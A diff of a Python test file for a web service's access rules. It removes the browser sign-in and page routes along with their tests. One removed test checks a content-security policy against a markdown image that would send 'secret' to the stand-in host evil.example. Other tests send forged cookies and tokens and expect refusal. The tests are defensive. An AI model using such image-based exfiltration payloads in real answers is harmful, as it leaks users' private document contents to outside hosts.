@@ -29,9 +29,8 @@ from foundation.errors import Overloaded
 from foundation.types import Principal
 from serving import runtime
 from serving.access.admission import Admission
-from serving.access.identity import PAGE_PATHS, PUBLIC_PATHS, Access, KeyStore, anyone, signed_in
+from serving.access.identity import Access, KeyStore, anyone
 from serving.app import create_app
-from serving.page.mount import policy
 from tests.doubles.issuer import AUDIENCE, ISSUER, Issuer
 from tests.doubles.serving import TEXT, World, world
 
@@ -43,8 +42,6 @@ DECIDERS = frozenset({"approver"})
 OPERATORS = frozenset({"operator"})
 PUBLIC: frozenset[str] = frozenset({"public"})
 """No credential is asked for."""
-PAGE: frozenset[str] = frozenset({"page"})
-"""A signed-in browser only: whatever is in Authorization, it is 401."""
 
 ASK = {"question": "When does it ship?"}
 OBJECT = {**ASK, "schema": {"type": "object", "properties": {"day": {"type": "string"}}}}
@@ -114,19 +111,11 @@ RULES = {
     "HEAD /health/live": Rule(PUBLIC),
     "HEAD /health/ready": Rule(PUBLIC),
     "GET /health/ready": Rule(PUBLIC),
-    "GET /": Rule(PUBLIC),
-    "GET /sign-in": Rule(PUBLIC),
-    "POST /sign-in": Rule(PUBLIC),
-    "POST /sign-out": Rule(PUBLIC),
-    "GET /_nicegui/{rest:path}": Rule(PAGE),
-    "POST /_nicegui/{rest:path}": Rule(PAGE),
-    "GET /_nicegui_ws/{rest:path}": Rule(PAGE),
-    "POST /_nicegui_ws/{rest:path}": Rule(PAGE),
 }
-KEYED = {name: rule for name, rule in RULES.items() if not rule.who & (PUBLIC | PAGE)}
+KEYED = {name: rule for name, rule in RULES.items() if not rule.who & PUBLIC}
 OURS = {
     "answer_id": "a-1", "thread_id": "t-1", "fact_id": "fact-1", "document_id": "doc-1", "job_id": "job-1",
-    "approval_id": "ap-1", "what": "effects", "name": "favicon.png", "rest:path": "x",
+    "approval_id": "ap-1", "what": "effects", "name": "favicon.png",
     "model": "sixply", "response_id": "resp_job_job-2",
 }  # fmt: skip
 """What is there, all of it in the tenant north."""
@@ -218,12 +207,11 @@ def test_every_route_of_the_app_has_its_rule_here_and_declares_one_there(given: 
     found = dict(in_app(app))
     assert found.keys() == RULES.keys(), "give the new route a line in RULES"
     for name, route in found.items():
-        path, rule = name.split(" ")[1], RULES[name]
+        rule = RULES[name]
         parts = list(dependants(route.dependant))
-        rules = [one.call for one in parts if isinstance(one.call, Access) or one.call in (anyone, signed_in)]
+        rules = [one.call for one in parts if isinstance(one.call, Access) or one.call is anyone]
         assert len(rules) == 1, f"{name} declares {len(rules)} rules; give it one of serving/access/identity.py"
-        assert (rules[0] is anyone) == (path in PUBLIC_PATHS) == (rule.who == PUBLIC), name
-        assert (rules[0] is signed_in) == path.startswith(PAGE_PATHS) == (rule.who == PAGE), name
+        assert (rules[0] is anyone) == (rule.who == PUBLIC), name
         paged = {"limit", "cursor"} <= {parameter.name for one in parts for parameter in one.query_params}
         assert paged == rule.paged, name
 
@@ -244,7 +232,6 @@ async def test_every_way_in_takes_its_place_in_the_queue(tmp_path: Path, monkeyp
     monkeypatch.setattr(runtime, "QUEUED_SHARE", 0)
     given = world(tmp_path, concurrent_answers=1)
     async for caller in opened(given):
-        signed_in = await caller.api.post("/sign-in", data={"key": given.reader})
         async with AsyncExitStack() as held:
             for places in caller.app.state.runtime.admission.values():
                 await held.enter_async_context(places.place(Principal("somebody", "elsewhere")))
@@ -254,10 +241,6 @@ async def test_every_way_in_takes_its_place_in_the_queue(tmp_path: Path, monkeyp
             for call in (tool_call("search", query="a"), tool_call("answer", question="a"), tool_call("documents")):
                 reply = await caller.call("POST /mcp", given.reader, json=call)
                 assert "overloaded" in reply.text, call
-            page = await caller.api.get("/", headers={"Cookie": signed_in.headers["set-cookie"].partition(";")[0]})
-            assert (page.status_code, page.json()["code"]) == (503, "overloaded")
-            caller.api.cookies.clear()
-            assert (await caller.api.get("/")).status_code == 200, "the form of a stranger takes no place of anybody"
 
 
 async def test_on_no_way_in_does_a_flood_of_one_tenant_turn_another_away(
@@ -380,17 +363,6 @@ async def test_a_page_over_the_limit_and_a_forged_cursor_are_422_on_every_list(g
 
 
 # -- the attacks -------------------------------------------------------------------------------------------------------
-
-
-def test_c6_an_answer_on_the_page_loads_and_sends_nothing_elsewhere() -> None:
-    """An image in an answer would carry what the documents say to whoever owns its address. The browser is told not to."""
-    told = dict(
-        part.strip().partition(" ")[::2] for part in policy("<p>![x](https://evil.example/?q=secret)").split(";")
-    )
-    assert told["default-src"] == "'none'"
-    assert {told[name] for name in ("connect-src", "form-action")} == {"'self'"}
-    assert told["img-src"] == "'self' data:"
-    assert not [source for sources in told.values() for source in sources.split() if source in {"*", "https:", "http:"}]
 
 
 async def test_c11_nothing_of_a_tenant_is_in_any_reply_to_another(given: World, caller: Caller) -> None:
@@ -520,13 +492,6 @@ async def test_c25_no_forged_credential_opens_any_route(tmp_path: Path) -> None:
             cookie = {"Cookie": f"sixply_session={given.reader}; Authorization=Bearer {given.reader}"}
             assert (await caller.call(name, headers=cookie)).status_code == 401, name
             assert (await caller.call(name, query=f"key={given.reader}&access_token={given.reader}")).status_code == 401
-
-
-async def test_c25_where_sessions_cannot_be_looked_up_the_page_is_503(given: World, caller: Caller) -> None:
-    given.system.cache.close()
-    for path in ("/_nicegui/x", "/"):
-        reply = await caller.api.get(path, headers={"Cookie": "sixply_session=any"})
-        assert (reply.status_code, reply.json()["code"]) == (503, "store_unavailable"), path
 
 
 async def test_c26_another_host_is_refused_on_every_route(given: World, caller: Caller) -> None:
